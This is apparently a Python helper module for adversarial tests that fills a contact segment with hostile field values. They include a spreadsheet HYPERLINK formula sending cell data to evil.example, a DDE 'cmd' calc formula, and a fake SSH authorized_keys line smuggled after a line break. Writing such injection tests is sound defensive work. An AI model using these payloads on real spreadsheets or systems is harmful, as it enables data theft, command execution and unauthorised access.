"""Small builders shared by the adversarial tests."""

from __future__ import annotations

from segtui.core import membership, segments
from segtui.core.models import Contact, database_proxy

from ..conftest import T0

HOSTILE_FIRST_NAME = "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")"
AUTHORIZED_KEY_LINE = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeFakeFakeFakeFakeFakeFakeFakeFakeFake attacker"


def hostile_segment(ctx, name: str = "Targets") -> int:
    """A static segment whose members carry hostile cells: a formula, a key line after a line break."""
    rows = [
        {"email": "formula@example.org", "first_name": HOSTILE_FIRST_NAME, "last_name": "+cmd|' /C calc'!A0",
         "city": "-2+3", "region": "@SUM(1+1)", "updated_at": T0},
        {"email": "keys@example.org", "first_name": "x\n" + AUTHORIZED_KEY_LINE + "\n", "last_name": "\tTab",
         "city": "\rCR", "updated_at": T0},
        {"email": "plain@example.org", "first_name": "Anne", "events_attended": -3, "updated_at": T0},
    ]
    ids = [Contact.insert(row).execute() for row in rows]
    segment, _ = segments.create(ctx, name, "contacts", "static")
    membership.add_records(ctx, segment.id, ids)
    return segment.id


def close_database() -> None:
    if database_proxy.obj is not None:
        database_proxy.obj.close()
